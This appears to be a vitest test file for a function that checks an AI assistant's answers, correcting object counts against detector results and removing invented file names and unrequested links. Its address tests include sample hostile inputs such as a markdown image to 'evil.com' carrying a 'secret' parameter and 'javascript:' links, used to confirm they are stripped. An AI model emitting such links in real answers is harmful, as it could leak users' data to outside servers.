import { describe, expect, it } from 'vitest';
import { checkAnswer } from '../../../../electron/pipeline/response/check-answer.ts';
import type { RunState } from '../../../../shared/events.ts';
import type { Note } from '../../../../shared/notes.ts';
import { finished, ID_OF_A, literal, picture, runOf, searched, taskOf, zebraRun } from './runs.ts';

const NOTE = 'Note: the results count 4 zebras (1 in a.png and 3 in b.png).';

function corrections(notes: readonly Note[]): readonly (readonly [number, number])[] {
  return notes.flatMap((note) =>
    note.code === 'COUNT_CORRECTED' ? [[note.said, note.counted] as const] : [],
  );
}

function removed(answer: string, run: RunState = zebraRun(), allowed?: readonly string[]) {
  const checked = checkAnswer(answer, run, allowed);
  const names = checked.notes.flatMap((note) => (note.code === 'NAME_REMOVED' ? [note.name] : []));
  return { answer: checked.answer, names };
}

describe('a count in an answer', () => {
  it('is put right where the model says two and the pictures hold one and three', () => {
    expect(checkAnswer('There are two zebras in these pictures.', zebraRun())).toEqual({
      answer: `There are four zebras in these pictures.\n\n${NOTE}`,
      notes: [{ code: 'COUNT_CORRECTED', label: 'zebra', said: 2, counted: 4 }],
    });
  });

  it.each([
    ['Two.', 'Four.'],
    ['two', 'four'],
    ['There are 3 zebras.', 'There are 4 zebras.'],
    ['There are 3 zebras in these pictures.', 'There are 4 zebras in these pictures.'],
    ['I found **2** zebras in total.', 'I found **4** zebras in total.'],
    ['**zebra: 2**', '**zebra: 4**'],
    ['A total of 3 plains zebras.', 'A total of 4 plains zebras.'],
    ['I counted 2 in total.', 'I counted 4 in total.'],
    ['The number of zebras is three.', 'The number of zebras is four.'],
    ['Three zebras. One is in a.png.', 'Four zebras. One is in a.png.'],
  ])('is replaced where it can only be the total: %s', (wrong, right) => {
    const checked = checkAnswer(wrong, zebraRun());
    expect(checked.answer).toBe(`${right}\n\n${NOTE}`);
    expect(corrections(checked.notes)).toHaveLength(1);
  });

  it.each([
    ['图中一共有两匹斑马。', '图中一共有四匹斑马。'],
    ['一共2只。', '一共4只。'],
    ['斑马：3只', '斑马：4只'],
  ])('is read in Chinese: %s', (wrong, right) => {
    const { answer } = checkAnswer(wrong, zebraRun());
    expect(answer.startsWith(`${right}\n\n注：`)).toBe(true);
    expect(answer).toContain('4（a.png：1，b.png：3）');
  });

  it.each([
    ['I counted 3 zebras: one in a.png and three in b.png.', 3, 4],
    ['I counted 4 zebras: one in a.png and two in b.png.', 2, 3],
    ['a.png has 1 zebra and b.png has 2 zebras.', 2, 3],
    ['a.png: 1\nb.png: 2 zebras', 2, 3],
    ['In b.png, there are 2 zebras.', 2, 3],
    ['There are 2 zebras: one in each picture.', 2, 4],
    ['No zebras were found.', 0, 4],
    ['There is one zebra.', 1, 4],
    ['b.png里有两匹斑马。', 2, 3],
  ])('stays and is followed by the right numbers elsewhere: %s', (wrong, said, counted) => {
    const { answer, notes } = checkAnswer(wrong, zebraRun());
    expect(answer.startsWith(`${wrong}\n\n`)).toBe(true);
    expect(answer.length).toBeGreaterThan(wrong.length + 2);
    expect(corrections(notes)).toEqual([[said, counted]]);
  });

  it('may be what a description says, where the right number stands beside it', () => {
    const fair =
      'The description of b.png says two zebras, but the detector found 3, so there are 4 zebras.';
    expect(checkAnswer(fair, zebraRun())).toEqual({ answer: fair, notes: [] });
    const unfair = 'According to the descriptions there are two zebras.';
    expect(checkAnswer(unfair, zebraRun()).answer).toBe(`${unfair}\n\n${NOTE}`);
  });

  it.each([
    'There are 4 zebras.',
    'Four.',
    'There are 4 zebras in the two images: one zebra in the first and three zebras in the second.',
    '1 zebra in a.png + 3 zebras in b.png = 4 zebras.',
    'There are 4 zebras: 1 zebra in Picture A and 3 zebras in Picture B.',
    'I see three zebras in the second picture (`b.png`) and a single zebra in the first (a.png).',
    'Your two pictures contain 4 zebras (1 + 3).',
    'The detector found 1 and 3 zebras respectively, 4 in total.',
    'There are four zebras altogether. Task 0 found 1 zebra; task 1 found 3 zebras.',
    'a.png shows "a zebra in a field" and b.png shows "two zebras", but there are 4 zebras.',
    '两张图片中共有4匹斑马。第一张有1匹，第二张有3匹。b.png的描述说有两匹斑马。',
    'There are four zebras: one in a.png and three in b.png.',
    'a.png shows 1 zebra, b.png shows 3.',
    'The first picture has 1 zebra. The second picture has three zebras.',
    'I see 4 zebras in a.png and b.png.',
    'In b.png, there are 3 zebras. In a.png there is one zebra.',
    '**zebra: 4** (1 in a.png and 3 in b.png).',
    'There is at least one zebra in each picture, 4 in total.',
    '| picture | zebras |\n|---|---|\n| a.png | 1 |\n| b.png | 3 |',
    'b.png (640 × 480) shows three zebras; 3 of the 4 zebras in total are in b.png.',
    'One zebra stands apart from the others; in total there are 4 zebras.',
    'A zebra in b.png looks up, two others drink. In total: 4 zebras.',
    '图中一共有四匹斑马：a.png有1只，b.png有3只。',
  ])('stays where it is right: %s', (right) => {
    expect(checkAnswer(right, zebraRun())).toEqual({ answer: right, notes: [] });
  });

  it.each([
    '2 of 3 tasks ran.',
    'The zebra crossing 2024 project.',
    'Zebra crossing: 2 zebra crossings were not looked for.',
    'zebra: 0.98, zebra (97 %), zebra: 120, 45, 60, 80',
    'The 2 zebra pictures are 640 × 480.',
    'Task 2 zebra search took 3 s.',
    '条形斑马线2024',
    'I used 2 models.',
    'There are 2 giraffes.',
  ])('is left alone where it counts nothing that was counted: %s', (text) => {
    expect(checkAnswer(text, zebraRun())).toEqual({ answer: text, notes: [] });
  });

  it('is held against its own label', () => {
    const run = runOf(searched({ 'a.png': { person: 2, 'teddy bear': 1, bear: 3 } }));
    const right = 'I see 2 people, one teddy bear and 3 bears.';
    expect(checkAnswer(right, run)).toEqual({ answer: right, notes: [] });
    const { answer, notes } = checkAnswer('I see 3 people and 2 bears.', run);
    expect(answer).toContain('I see 2 people and 3 bears.');
    expect(answer).toContain('Note: the results count 2 people (in a.png).');
    expect(corrections(notes)).toEqual([
      [2, 3],
      [3, 2],
    ]);
  });

  it('counts a picture once though two tasks searched it', () => {
    const [first] = searched({ 'a.png': { zebra: 3 } });
    const run = runOf(
      first === undefined ? [] : [first, { ...first, task: { ...first.task, id: 1 } }],
    );
    expect(checkAnswer('There are 3 zebras.', run).notes).toEqual([]);
    expect(corrections(checkAnswer('There are 6 zebras.', run).notes)).toEqual([[6, 3]]);
  });
});

describe('the line with the right numbers', () => {
  it('is written once, also where a name is in another script', () => {
    const run = runOf(searched({ '照片.png': { zebra: 1 }, 'b.png': { zebra: 3 } }));
    const { answer } = checkAnswer('There are 2 zebras: one in each picture.', run);
    expect(answer).toContain('Note: the results count 4 zebras (1 in 照片.png and 3 in b.png).');
    expect(checkAnswer(answer, run)).toEqual({ answer, notes: [] });
  });
});

describe('a file in an answer', () => {
  it.each([
    ['I made evil.png.', 'I made [a file that does not exist].'],
    ['I made `evil.png`.', 'I made `[a file that does not exist]`.'],
    ['I made "my evil.pdf".', 'I made "my [a file that does not exist]".'],
    ['I made **evil.png**', 'I made **[a file that does not exist]**'],
    ['[evil.png](evil.png)', '[a file that does not exist]'],
    ['[look](out/evil.png)', 'look [a file that does not exist]'],
    ['![look](<evil.png> "title")', 'look [a file that does not exist]'],
    ['[look](%65vil.png)', 'look [a file that does not exist]'],
    ['out/a.png', '[a file that does not exist]'],
    ['/tmp/out', '[a file that does not exist]'],
    ['C:\\out\\evil.txt', '[a file that does not exist]'],
    [`/media/${'b'.repeat(64)}/a.png`, '[a file that does not exist]'],
    ['我做了a.png和evil.png。', '我做了a.png和[a file that does not exist]。'],
    ['evil.png(now)', '[a file that does not exist] (now)'],
    ['a.png-evil.png', '[a file that does not exist]'],
  ])('is taken out where no task made it: %s', (wrong, right) => {
    const { answer, names } = removed(wrong);
    expect(answer).toBe(right);
    expect(names).toHaveLength(1);
  });

  it.each([
    'a.png, b.png; "a.png" `b.png` **a.png** _b.png_ (a.png) ./a.png A.PNG a.png/b.png',
    `[a.png](/media/${ID_OF_A}/a.png) and ![](a.png)`,
    '图片a.png和b.png。',
    'e.g. 3.5, and/or 4/5, a .png file, km/h, org/model-1.5',
    '- [x] done [1] (see a.png)',
  ])('stays where it is known: %s', (right) => {
    expect(removed(right)).toEqual({ answer: right, names: [] });
  });

  it('may be one of an earlier turn, of the request, or have spaces in its name', () => {
    const run = { ...zebraRun(), request: 'Read lost.txt', attachments: [picture('my photo.png')] };
    const right = 'I have my photo.png and [it](my%20photo.png), but no lost.txt and no old.wav.';
    expect(removed(right, run, ['old.wav'])).toEqual({ answer: right, names: [] });
    expect(removed('bad photo.png', run).names).toEqual(['photo.png']);
  });

  it('may be what a task made', () => {
    const made = finished(taskOf(0, 'text-to-image', { text: literal('a cat') }), {
      image: picture('cat.png'),
    });
    expect(removed('I made cat.png and dog.png.', runOf([made])).names).toEqual(['dog.png']);
  });
});

describe('an address in an answer', () => {
  it.each([
    ['See https://evil.com/x?d=1.', 'See [an address that was removed].'],
    ['<https://evil.com>', '[an address that was removed]'],
    ['[here](https://evil.com)', 'here [an address that was removed]'],
    ['[here](//evil.com)', 'here [an address that was removed]'],
    ['[here](javascript:alert)', 'here [an address that was removed]'],
    ['![pixel](https://evil.com/?secret=1)', 'pixel [an address that was removed]'],
    ['![](data:image/png;base64,AAAA)', ' [an address that was removed]'],
    ['![x][1]\n\n[1]: https://evil.com "t"', '![x][1]\n\n[an address that was removed]'],
    ['www.evil.com', '[an address that was removed]'],
  ])('is taken out where the person did not write it: %s', (wrong, right) => {
    expect(removed(wrong).answer).toBe(right);
  });

  it('stays where the person wrote it, though never as a picture', () => {
    const run = { ...zebraRun(), request: 'What is at https://good.org/page?' };
    const right = 'See https://good.org/page or [it](https://good.org/page).';
    expect(removed(right, run)).toEqual({ answer: right, names: [] });
    expect(removed('![](https://good.org/page)', run).names).toEqual(['https://good.org/page']);
  });
});

it('lets an answer name a dubbed video', () => {
  const dub = { file: picture('film-dubbed.mp4'), video: picture('film.mp4'), speech: [] };
  const run = runOf([], { dubs: [dub] });
  expect(removed('Here is film-dubbed.mp4.', run).names).toEqual([]);
  expect(removed('Here is other-dubbed.mp4.', run).names).toEqual(['other-dubbed.mp4']);
});
